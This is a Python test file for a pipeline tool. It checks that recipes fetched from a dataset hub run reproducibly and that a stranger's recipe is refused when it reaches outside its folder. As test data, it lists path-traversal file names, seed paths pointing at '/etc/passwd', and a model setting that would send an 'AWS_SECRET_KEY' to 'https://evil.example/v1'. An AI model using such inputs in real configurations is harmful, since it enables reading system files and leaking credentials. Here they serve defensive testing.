"""A recipe that was published runs again, and what a stranger published does no harm."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from functools import partial
from pathlib import Path

import pytest

from flows import make
from pipelines.hub.published import fetch_recipe
from pipelines.recipe import BadRecipe
from pipelines.release import read_version
from tests.each import each_of
from tests.hub_writing import WritableHub
from tests.pipelines.publishing.released import NOWHERE, REPO, refused, tagged
from tests.small import tree

pytestmark = pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")


@pytest.fixture
def fetch(hub: WritableHub, tmp_path: Path):
    return partial(fetch_recipe, into=tmp_path / "recipes", endpoint=hub.url, waits=())


def test_a_published_recipe_makes_the_same_facts_again(hub, fetch, publish, versions, tmp_path, monkeypatch):
    for version in versions:
        publish(version, private=False)
    monkeypatch.chdir(tmp_path)  # where there are no seeds
    monkeypatch.setenv("THOUGHTMILL_DATA", str(tmp_path / "data"))
    monkeypatch.setattr("pipelines.reports.plots.write_plots", lambda told, folder: [])
    made = asyncio.run(make.make(str(fetch(f"{REPO}@v1"))))
    assert read_version(made.folder)["digest"] == read_version(versions[0])["digest"]
    publish(made.folder, to="grace/sums")
    assert data(tagged(hub, "v1", "grace/sums")) == data(tagged(hub, "v1"))


def data(files: Mapping[str, bytes]) -> dict[str, bytes]:
    return {
        name: content for name, content in files.items() if name.startswith(("data/", "seeds/", "prompts/", "recipe"))
    }


def test_without_a_revision_it_is_the_latest(hub, fetch, publish, versions):
    for version in versions:
        publish(version, private=False)
    assert fetch(REPO) == fetch(f"hub:{REPO}@v2") != fetch(f"{REPO}@v1")


RECIPE = """
name = "strange"
target = {{ accepted = 1, candidates = 2 }}
models.teacher = {model}
[[stages]]
use = "draw"
seeds = {seeds}
[[stages]]
use = "sift"
name = "screen"
rules = [{{ rule = "contamination", against = {against} }}]
"""


def strange(
    *, model: str = '"builtin"', seeds: str = '"seeds/s-1.jsonl"', against: str = '"bench"'
) -> dict[str, bytes]:
    text = RECIPE.format(model=model, seeds=seeds, against=against)
    return {"recipe.toml": text.encode(), "seeds/s-1.jsonl": b'{"question": "1 + 1?"}\n'}


def test_only_what_a_recipe_needs_is_taken_and_nothing_leaves_the_folder(hub, fetch, tmp_path):
    harmless = {**strange(), "prompts/pose/mine.md": b"---\n---\n", "prompts/a.md": b""}
    odd = (
        "../recipe.toml",
        "prompts/../../x.md",
        "/etc/x.md",
        "prompts/.hidden.md",
        "prompts/x.py",
        "seeds/a/b.jsonl",
    )
    more = (
        "seeds/..jsonl",
        "prompts\\..\\x.md",
        "prompts/a\\b.md",
        "prompts//x.md",
        "seeds/s.jsonl/x.md",
        "x/recipe.toml",
    )
    hub.commit(REPO, {**harmless, **dict.fromkeys((*odd, *more), b"")})
    path = fetch(REPO)
    assert tree(tmp_path / "recipes") == {
        f"{path.parent.relative_to(tmp_path / 'recipes').as_posix()}/{name}": content
        for name, content in harmless.items()
    }


FOREIGN = [
    '"/etc/passwd"',
    '"../../x.jsonl"',
    '"mine.jsonl"',
    '{ path = ["seeds/s-1.jsonl", "/etc/passwd"] }',
    '"hub:a/b"',
]


@pytest.mark.parametrize("seeds", FOREIGN)
def test_a_recipe_that_draws_from_what_did_not_come_with_it_is_refused(hub, fetch, monkeypatch, tmp_path, seeds):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine.jsonl").write_bytes(b'{"question": "my secret"}\n')
    hub.commit(REPO, strange(seeds=seeds))
    told = refused(lambda: fetch(REPO))
    assert "which did not come with it: say which to take with --set draw.seeds" in told


def test_unless_one_says_so_oneself(hub, fetch, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine.jsonl").write_bytes(b'{"question": "my own"}\n')
    hub.commit(REPO, strange(seeds='"gone.jsonl"'))
    assert fetch(REPO, changes=['draw.seeds="mine.jsonl"']).is_file()


@pytest.mark.parametrize(("against", "allowed"), [('"data/bench"', True), ('"hub:a/b"', True), ('"/etc"', False)])
def test_what_rules_compare_with_may_be_ones_own(hub, fetch, against, allowed):
    hub.commit(REPO, strange(against=against))
    if allowed:
        assert fetch(REPO).is_file()
    else:
        assert "names screen.rules.against = '/etc'" in refused(lambda: fetch(REPO))


MODELS = {
    '{ use = "openai:m@https://evil.example/v1", key_env = "AWS_SECRET_KEY" }': "the key in AWS_SECRET_KEY",
    '"replay:said.jsonl"': "the recording replay:said.jsonl",
    '"openai:m@https://evil.example/v1"': "the server https://evil.example/v1",
}


@pytest.mark.parametrize("model", MODELS)
def test_a_recipe_that_wants_a_key_a_recording_or_a_server_is_refused_unless_another_model_is_said(hub, fetch, model):
    hub.commit(REPO, strange(model=model))
    told = refused(lambda: fetch(REPO))
    assert f"wants {MODELS[model]} for its model 'teacher': say what to ask instead with --model teacher=" in told
    assert fetch(REPO, changes=['models.teacher="builtin"']).is_file()


def test_what_is_no_recipe_is_told(hub, fetch):
    hub.commit(REPO, {"README.md": b"# Sums"})
    assert "ada/sums@main has no recipe.toml" in refused(lambda: fetch(REPO))
    hub.commit(REPO, {"recipe.toml": b"\xff"})
    with pytest.raises(BadRecipe, match="not TOML"):
        fetch(REPO)
    hub.commit(REPO, {"recipe.toml": b"a = " + b"[" * 50_000})
    assert "nested too deeply" in refused(lambda: fetch(REPO))
    hub.commit(REPO, {"recipe.toml": b"#" * (2 << 20)})
    assert "recipe.toml of ada/sums has 2,097,152 bytes" in refused(lambda: fetch(REPO))


def test_what_keeps_a_recipe_from_coming_is_told(hub, fetch, publish, versions):
    assert "no dataset ada/sums@main on the Hub, or a private one" in refused(lambda: fetch(REPO))
    publish(versions[0])  # private
    assert "or a private one: mend the name, or set HF_TOKEN" in refused(lambda: fetch(f"{REPO}@v1"))
    hub.repos[REPO].private = False
    assert "no revision ada/sums@v9" in refused(lambda: fetch(f"{REPO}@v9"))
    hub.repos[REPO].gated = True
    assert "ada/sums@v1 is gated: ask for access on its page" in refused(lambda: fetch(f"{REPO}@v1"))
    assert "the Hub cannot be reached" in refused(lambda: fetch(REPO, endpoint=NOWHERE))


def test_a_hub_that_is_busy_is_waited_for(hub, fetch, publish, versions, monkeypatch):
    monkeypatch.setattr("time.sleep", lambda seconds: None)
    publish(versions[0], private=False)
    hub.schedule["info"] = ["503"]
    assert fetch(REPO, waits=(1.0,)).is_file()


@each_of(["", "sums", "ada/sums@", "ada/sums@v1:recipe.toml", "https://hub.org/ada/sums"])
def test_a_name_that_is_none_says_how_names_are_written(name):
    assert "write OWNER/NAME@vN" in refused(lambda: fetch_recipe(name, into=Path("recipes")))
